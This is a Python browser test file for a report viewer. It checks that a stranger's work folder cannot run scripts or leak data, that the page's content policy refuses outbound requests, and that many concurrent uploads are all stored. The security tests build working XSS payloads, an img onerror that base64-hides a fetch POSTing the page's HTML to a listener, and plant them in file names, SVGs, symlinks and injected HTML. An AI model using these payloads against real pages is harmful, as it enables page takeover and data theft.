"""A stranger's folder, and many uploads at once, in a real browser. make browser."""

import base64
import http.server
import json
import threading
import time

import pytest
from arm import recordings, write_arm

from gaponet.data.store import Dataset

pytestmark = pytest.mark.browser
SECRET = "the-secret-of-this-machine"
PAIRS = 100
FILE_INPUT = (
    "[...document.querySelectorAll('button')].find(e => e.innerText.trim().startsWith('Upload a "
    "log')).parentElement.querySelector('input[type=file]')"
)


class Listener:
    """A server of the stranger that would receive what a script sends."""

    def __init__(self):
        self.requests = requests = []

        class Note(http.server.BaseHTTPRequestHandler):
            def do_GET(self):
                requests.append(self.path)
                self.send_response(200)
                self.end_headers()

            def do_POST(self):
                self.do_GET()

            def log_message(self, *_):
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Note)
        self.address = f"http://127.0.0.1:{self.server.server_address[1]}/"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def script(self):
        """A picture that marks the page and sends all that is in it; no slash, as it stands in
        names of files.
        """
        to = base64.b64encode(self.address.encode()).decode().rstrip("=")
        send = f"window.hurt=1;fetch(atob('{to}'),{{method:'POST',body:document.body.outerHTML}})"
        return f'a"><img src=x onerror="{send}">'


@pytest.fixture
def listener():
    opened = Listener()
    yield opened
    opened.server.shutdown()
    opened.server.server_close()


def write_strangers_folder(folder, secret, script):
    """Every stored thing that the page shows holds a script; results name a file outside, directly
    and by links.
    """
    for number, step, words, result in (
        (1, "robot", ["robot", "new", "x", "--out", "robot1"], {}),
        (2, "import", ["import", script, "--out", "import2"], {}),
        (3, "doctor", ["doctor", script], {"figures": [str(secret), f"pic/{script}.png"]}),
        (
            4,
            "doctor",
            ["doctor", "./import2"],
            {
                "figures": ["link.svg", f"{script}.svg"],
                "findings": [{"level": "error", "check": script, "message": script}],
            },
        ),
        (5, "gap", [script], {}),
        (6, "train", [script], None),
    ):
        job = folder / "jobs" / f"{number:03d}-{step}"
        job.mkdir(parents=True)
        (job / "command.json").write_text(json.dumps(words))
        (job / "result.json").write_text("" if result is None else json.dumps(result))
        (job / "log.txt").write_text(
            f"┏━━┓\n┃ {script} ┃ x ┃\n┡━━╇━━┩\n│ {script} │ 1 │\n{script}\n"
        )
    (folder / "link.svg").symlink_to(secret)
    (folder / f"{script}.svg").write_text(f"<svg><script>{script}</script></svg>")
    (folder / "model").mkdir()
    (folder / "model" / f"{script}.xml").write_text("<mujoco/>")
    robot = write_arm(folder / "robot1")
    data = Dataset.create(folder / "import2", robot)
    for sequence in recordings(robot, 1, rows=60):
        data.append(sequence)


def open_step(browser, page, step):
    from browser import wait

    browser.ask("Page.navigate", url=f"{page.address}?step={step}")
    selected = "document.querySelector('[role=tab][aria-selected=true]').innerText.trim()[0]"
    wait(lambda: browser.value(selected) == step)
    time.sleep(2.0)


def hurt(browser):
    return browser.value("window.hurt === 1")


def test_no_script_of_a_strangers_folder_runs_and_no_content_leaves(tmp_path, listener):
    from browser import Browser

    from gaponet.report.view.app import App

    secret = tmp_path / "secret.svg"
    secret.write_text(SECRET)
    folder = tmp_path / "work"
    write_strangers_folder(folder, secret, listener.script())
    page = App(folder, 0)
    try:
        with Browser() as browser:
            text = "document.body.innerText || ''"
            shown = ""
            for step in "123456":
                open_step(browser, page, step)
                shown += browser.value(text)
                inside = browser.value("document.documentElement.outerHTML")
                assert SECRET not in inside
                assert base64.b64encode(SECRET.encode()).decode() not in inside
                assert not hurt(browser)
            assert "Left out" in shown
            assert 'finds an error (a"><img src=x onerror' in shown  # as text
    finally:
        page.server.stop()
    assert listener.requests == []
    print(f"stranger's folder: {len(listener.requests)} requests")


def test_where_escaping_is_forgotten_the_policy_of_the_page_holds(tmp_path, listener):
    from browser import Browser, wait

    from gaponet.report.view.app import App

    page = App(tmp_path, 0)
    script = listener.script()
    try:
        page.server.gui.add_html(
            f"{script}<img src='{listener.address}1'><iframe src='{listener.address}2'></iframe>"
        )
        page.server.gui.add_markdown(f"{script} ![x]({listener.address}3)")
        style = f"<style>body {{background: url('{listener.address}4')}}</style>"
        page.server.gui.add_html(f"{style}<form id=f action='{listener.address}5'></form>MARK")
        with Browser() as browser:
            browser.ask("Page.navigate", url=page.address)
            wait(lambda: "MARK" in browser.value("document.body.innerText || ''"))
            time.sleep(3.0)
            assert not hurt(browser)
            sent = f"fetch('{listener.address}6').then(() => 'sent', () => 'refused')"
            answer = browser.ask("Runtime.evaluate", expression=sent, awaitPromise=True)
            assert answer["result"]["value"] == "refused"
    finally:
        page.server.stop()
    assert listener.requests == []


def upload_script(page, at_once):
    """JavaScript that uploads PAIRS times `at_once` files, at set moments, so that two pages do it
    together.
    """
    return f"""
        const input = {FILE_INPUT};
        window.ended = 0;
        const start = Math.ceil((Date.now() + 2000) / 2000) * 2000;
        for (let k = 0; k < {PAIRS}; k++) setTimeout(() => {{
          for (let i = 0; i < {at_once}; i++) {{
            const name = `{page}-${{k}}-${{i}}.csv`;
            const files = new DataTransfer();
            files.items.add(new File([name + "," + "x".repeat(k % 10 ? 10 : 300000)], name));
            input.files = files.files;
            input.dispatchEvent(new Event("change", {{bubbles: true}}));
          }}
          window.ended++;
        }}, start + 200 * k - Date.now());
    """


@pytest.fixture
def empty(tmp_path):
    from browser import ticking

    from gaponet.report.view.app import App

    page = App(tmp_path, 0)
    with ticking(page.tick):
        yield page
    page.server.stop()


def open_logs(browser, page):
    from browser import wait

    open_step(browser, page, "2")
    wait(lambda: browser.value(f"!!{FILE_INPUT}"))


def stored_whole(folder):
    """Names of the files that hold what was sent."""
    texts = {path.name: path.read_text() for path in (folder / "logs").glob("*.csv")}
    return {
        name for name, text in texts.items() if text.split(",")[0] == name and text.endswith("x")
    }


def test_of_a_hundred_pairs_of_uploads_from_two_pages_none_is_lost(empty):
    from browser import Browser, wait

    with Browser(1000, 700) as one, Browser(1000, 700) as two:
        for browser, name in ((one, "one"), (two, "two")):
            open_logs(browser, empty)
            browser.value(upload_script(name, 1))
        for browser in (one, two):
            wait(lambda browser=browser: browser.value("window.ended") == PAIRS)
        expected = {f"{name}-{k}-0.csv" for k in range(PAIRS) for name in ("one", "two")}
        wait(lambda: stored_whole(empty.controls.folder) == expected)
        wait(lambda: f"{2 * PAIRS} uploads are stored" in one.value("document.body.innerText"))
        print(f"two pages: {len(stored_whole(empty.controls.folder))} of {2 * PAIRS} files")


def test_of_a_hundred_pairs_of_uploads_from_one_page_none_is_lost(empty):
    from browser import Browser, wait

    with Browser(1000, 700) as browser:
        open_logs(browser, empty)
        browser.value(upload_script("one", 2))
        expected = {f"one-{k}-{i}.csv" for k in range(PAIRS) for i in (0, 1)}
        wait(lambda: stored_whole(empty.controls.folder) == expected)
        print(f"one page: {len(stored_whole(empty.controls.folder))} of {2 * PAIRS} files")


def test_a_broken_zip_behind_a_large_file_is_named_until_it_is_dismissed(empty):
    from browser import Browser, wait

    with Browser(1000, 700) as browser:
        open_logs(browser, empty)
        browser.value(f"""
            const input = {FILE_INPUT};
            for (const [name, size] of [["large.csv", 20 << 20], ["broken.zip", 10]]) {{
              const files = new DataTransfer();
              files.items.add(new File(["x".repeat(size)], name));
              input.files = files.files;
              input.dispatchEvent(new Event("change", {{bubbles: true}}));
            }}
        """)
        text = "document.body.innerText || ''"
        wait(lambda: "large.csv is stored" in browser.value(text))
        wait(lambda: "Not stored: broken.zip. the .zip is broken" in browser.value(text))
        time.sleep(2.0)
        assert "Not stored: broken.zip" in browser.value(text)
        assert "broken.zip is stored" not in browser.value(text)
        browser.value(
            "[...document.querySelectorAll('button')].find(e => e.innerText.trim() === "
            "'Dismiss').click()"
        )
        wait(lambda: "broken.zip" not in browser.value(text).replace("Uploading broken.zip", ""))
